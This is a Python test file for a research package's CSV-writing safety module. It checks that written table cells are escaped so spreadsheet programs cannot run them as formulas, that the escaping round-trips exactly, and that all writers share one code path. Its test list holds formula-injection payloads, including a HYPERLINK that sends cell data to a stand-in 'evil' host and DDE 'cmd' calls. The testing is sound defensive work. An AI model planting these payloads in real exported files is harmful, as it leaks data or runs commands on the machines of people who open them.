"""Cells that a spreadsheet program would run as formulas, through every table of dlr."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import dlr
from dlr.cohort.tables import read_text_table
from dlr.safety.spreadsheets import csv_text, harmless_cell, read_csv_table, undo_harmless

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "＝1+1",
    "x;=cmd|calc",
    'x;"=cmd|calc"',
    "x\n=1+1",
    " =1+1",
]


STARTS = tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_of_a_written_table_is_a_formula(cell: str) -> None:
    frame = pd.DataFrame({"subject_id": [cell], cell: [cell], "n": [-1.5]}, index=[cell])
    text = csv_text(frame, index=True)
    for separator in (",", ";"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert all(not found.startswith(STARTS) or found == "-1.5" for found in row)


@pytest.mark.parametrize("cell", [*FORMULAS, "plain", "'quoted'", "-5", "+1e3", "'-5", "a'=b", ""])
def test_reading_gives_back_what_was_written(cell: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"subject_id": [cell], f"c{cell}": ["x"]})
    path = tmp_path / "table.csv"
    path.write_bytes(csv_text(frame).encode())
    found = read_csv_table(path, dtype=str, keep_default_na=False)
    assert found.iloc[0, 0] == cell.replace("\r", "\n")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=" \"'=+-@;\t\rab1", max_size=8))
def test_undoing_is_exact_for_any_text(text: str) -> None:
    assert undo_harmless(harmless_cell(text)) == text.replace("\r\n", "\n").replace("\r", "\n")


def test_numbers_stay_numbers() -> None:
    for number in ("-5", "+3.2", "-1e-5", "-.5"):
        assert harmless_cell(number) == number
    frame = pd.DataFrame({"a": [-1.0, np.nan], "b": pd.Categorical(["=x", "y"]), "c": [None, "-1"]})
    assert csv_text(frame) == "a,b,c\n-1.0,'=x,\n,y,-1\n"
    assert frame["b"].iloc[0] == "=x"  # the table itself is not changed


def test_a_table_that_dlr_wrote_has_the_same_subjects_when_it_is_read_as_input(
    tmp_path: Path,
) -> None:
    path = tmp_path / "clinical.csv"
    path.write_text(
        csv_text(pd.DataFrame({"subject_id": ["=A1", "-x", "-7"], "+sex": list("mfm")}))
    )
    found = read_text_table(path, "clinical")
    assert list(found["subject_id"]) == ["=A1", "-x", "-7"]
    assert "+sex" in found


def test_every_writer_of_tables_goes_through_the_one_place() -> None:
    root = Path(dlr.__file__).parent
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    }
    assert writers - {"features/table.py"} == {"safety/spreadsheets.py"}
